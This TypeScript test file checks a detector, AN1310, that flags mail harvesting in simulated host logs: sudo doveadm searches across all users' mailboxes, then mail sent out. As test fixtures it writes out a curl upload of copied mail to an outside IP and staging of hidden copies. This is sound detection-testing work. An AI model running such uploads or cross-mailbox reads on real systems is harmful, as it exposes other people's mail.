import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { World } from '../../state/world.ts';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  atMostAt,
  factorsOf,
  firesAt,
  scanLog,
  storyOf,
  valuesOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';
import type { BoxRead, HarvestCase } from './case.ts';
import { ownLettersMailed, sentBoxes } from './sent-boxes.ts';

interface Scene {
  readonly log: HostLog;
  readonly shell: Process;
  readonly tool: (line: string) => Process;
  readonly mine: Delivered;
  readonly theirs: readonly Delivered[];
}

/** ops at a terminal, with mail of ops and of three others; `tool` is started by sudo. */
function atWork(): Scene {
  const log = new HostLog();
  const mine = log.deliver({ to: 'ops' });
  const theirs = ['clerk', 'buyer', 'dev'].map(to => log.deliver({ to }));
  log.shell('clerk').run('/usr/bin/vim notes.txt').write('/home/clerk/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  log.wait(MINUTE);
  const shell = log.shell('ops');
  const tool = (line: string): Process =>
    shell.run(`/usr/bin/sudo ${line}`, { who: { ...shell.who, uid: 0 } }).run(`/usr/bin/${line}`);
  return { log, shell, tool, mine, theirs };
}

/** The server's tool looks through all boxes and keeps its lists. */
function searches({ log, tool, theirs, mine }: Scene): void {
  const doveadm = tool('doveadm search -A mailbox INBOX from helpdesk@example.com');
  doveadm.write('/home/ops/Maildir/dovecot-uidlist').read(mine.path);
  for (const [i, user] of ['clerk', 'buyer', 'dev'].entries()) {
    doveadm.read(theirs[i]?.path ?? '');
    doveadm.write(`/home/${user}/Maildir/dovecot-uidlist`).write(`/home/${user}/Maildir/dovecot.index.log`);
  }
  log.wait(MINUTE);
}

function mails({ log, shell }: Scene, file: string): void {
  log.wait(MINUTE);
  const words = ['/usr/bin/mutt', '-s', 'a phish', '-a', file, '--', 'abuse@example.net'];
  const mutt = shell.run(words).read(file);
  mutt.run('/usr/sbin/sendmail -oi -- abuse@example.net');
  log.submitted('ops', 'abuse@example.net', 1300);
}

test('a letter of the own goes to an abuse desk after all boxes were searched: nothing that left is theirs', async () => {
  const scene = atWork();
  searches(scene);
  scene.shell.run(`/bin/cp ${scene.mine.path} phish.eml`).read(scene.mine.path).write('/home/ops/phish.eml');
  mails(scene, '/home/ops/phish.eml');
  const alerts = await scanLog(scene.log);
  atMostAt(alerts, 'informational');
  const alert = storyOf(alerts, 'AN1310');
  assert.match(alert.title, /^Mail of ops read/);
  assert.ok(factorsOf(alert).includes('read beside it'));
  assert.ok(!valuesOf(alert, 'file').some(path => path.includes('dovecot')), valuesOf(alert, 'file').join('\n'));
});

test('a list of what was found in the boxes of others, kept and not sent, changes nothing', async () => {
  const scene = atWork();
  const list = scene.tool('doveadm fetch -A hdr.subject from helpdesk@example.com');
  for (const { path } of scene.theirs) list.read(path);
  list.write('/home/ops/found.txt');
  scene.log.wait(MINUTE);
  scene.shell.run(`/bin/cp ${scene.mine.path} phish.eml`).read(scene.mine.path).write('/home/ops/phish.eml');
  mails(scene, '/home/ops/phish.eml');
  atMostAt(await scanLog(scene.log), 'informational');
});

test('that list mailed, or a letter of somebody else, is told with whose mail it is', async () => {
  const listed = atWork();
  const list = listed.tool('doveadm fetch -A text from helpdesk@example.com');
  for (const { path } of listed.theirs) list.read(path);
  list.write('/home/ops/found.txt');
  mails(listed, '/home/ops/found.txt');
  assert.match(firesAt(await scanLog(listed.log), 'AN1310', 'medium').title, /clerk, buyer, dev/);
  const other = atWork();
  searches(other);
  const [letter = other.mine] = other.theirs;
  other.tool(`cp ${letter.path} /home/ops/x.eml`).read(letter.path).write('/home/ops/x.eml');
  mails(other, '/home/ops/x.eml');
  assert.match(firesAt(await scanLog(other.log), 'AN1310', 'medium').title, /^Mail of clerk read/);
});

test('the own letter by hand is ordinary; all of the box, by another way, or from a hidden copy is told as before', async () => {
  const taken = async (copy: string, how: (scene: Scene, file: string) => void, words: string): Promise<string> => {
    const scene = atWork();
    scene.shell
      .run(`/bin/cp ${words || scene.mine.path} ${copy}`)
      .read(scene.mine.path)
      .write(copy);
    how(scene, copy);
    return storyOf(await scanLog(scene.log), 'AN1310').severity;
  };
  const uploads = ({ log, shell }: Scene, file: string): void => {
    log.wait(MINUTE);
    shell.run(`/usr/bin/curl -T ${file} http://203.0.113.66/x`).read(file).connect('203.0.113.66', 80);
  };
  assert.equal(await taken('/home/ops/x.eml', mails, ''), 'informational');
  assert.equal(await taken('/home/ops/x.eml', mails, '-r /home/ops/Maildir'), 'medium', 'the whole box');
  assert.equal(await taken('/home/ops/x.eml', uploads, ''), 'medium', 'to a web server');
  assert.equal(await taken('/home/ops/.x/y', mails, ''), 'medium', 'a hidden copy');
});

const step = { time: 0, order: 0, kind: 'store.read' };
const read = (box: string, pid: number, own = false): BoxRead =>
  ({ box, pid, own, owner: box, taint: { step, origin: { id: box } } }) as unknown as BoxRead;
const found = (facts: Partial<HarvestCase> = {}): HarvestCase =>
  ({
    host: 'ws1',
    context: 'interactive',
    reads: new Map([
      ['a', read('a', 1, true)],
      ['b', read('b', 2)],
      ['c', read('c', 2)],
    ]),
    left: [{ box: 'a', pid: 1, few: true }],
    copied: new Map([['a', 1]]),
    transfers: [{ taint: {}, disk: '', program: '/usr/bin/mutt', destination: 'x@example.net', pid: 9 }],
    staged: [],
    further: null,
    printed: null,
    broad: false,
    ...facts,
  }) as unknown as HarvestCase;
const kept = (one: HarvestCase, seen = ['store:read', 'file:written']): string =>
  [...sentBoxes(one, { seen: (_: string, kind: string) => seen.includes(kind) } as World).found.reads.keys()].join('');

test('other boxes are left out only where each transfer was followed back, and reads and writes are recorded', () => {
  assert.equal(kept(found()), 'a');
  assert.equal(kept(found(), ['store:read']), 'abc');
  assert.equal(kept(found(), ['file:written']), 'abc');
  const [transfer] = found().transfers;
  assert.equal(kept(found({ transfers: [{ ...transfer, taint: null }] as never })), 'abc', 'joined by time');
  assert.equal(kept(found({ transfers: [{ ...transfer, disk: '/media/x' }] as never })), 'abc', 'on a disk');
  const taint = {};
  const printed = { printed: { taint }, transfers: [{ ...transfer, taint }] } as never;
  assert.equal(kept(found(printed)), 'abc', 'printed to the client');
  assert.equal(kept(found({ broad: true })), 'abc');
  assert.equal(kept(found({ left: [] })), 'abc');
  assert.equal(kept(found({ left: [{ box: 'z', pid: 7, few: true }] })), 'abc', 'a box that is not among them');
});

test('what one program read goes together; of many copies some may be forgotten, so all of them count', () => {
  assert.equal(kept(found({ left: [{ box: 'b', pid: 2, few: false }] })), 'bc');
  const copied = (count: number): Map<string, number> =>
    new Map([['a', 1], ...Array.from({ length: count }, (_, i): [string, number] => [`b${i}`, 2])]);
  assert.equal(kept(found({ copied: copied(3) })), 'a');
  assert.equal(kept(found({ copied: copied(4) })), 'abc');
});

test('letters of the own, picked and mailed from a terminal: each condition', () => {
  const own = new Map([['a', read('a', 1, true)]]);
  const to = (facts: Partial<HarvestCase> = {}): string => ownLettersMailed(found({ reads: own, ...facts }));
  const [transfer] = found().transfers;
  assert.equal(to(), 'x@example.net');
  assert.equal(to({ context: 'cron' }), '', 'a job');
  assert.equal(to({ reads: new Map([['b', read('b', 2)]]) }), '', 'of somebody else');
  assert.equal(to({ left: [{ box: 'a', pid: 1, few: false }] }), '', 'all of the box');
  const left = Array.from({ length: 4 }, (_, pid) => ({ box: 'a', pid, few: true }));
  assert.equal(to({ left }), '', 'one after the other');
  assert.equal(to({ further: {} as never }), '', 'and more');
  for (const facts of [{ program: '/home/ops/mutt' }, { program: '/usr/bin/curl' }, { destination: '203.0.113.7:25' }])
    assert.equal(to({ transfers: [{ ...transfer, ...facts }] as never }), '', JSON.stringify(facts));
  assert.equal(to({ staged: [{ path: '/tmp/.x', pid: 4 }] as never }), '', 'hidden');
  assert.equal(to({ staged: [{ path: '/tmp/.x', pid: 9 }] as never }), 'x@example.net', "the client's own file");
});
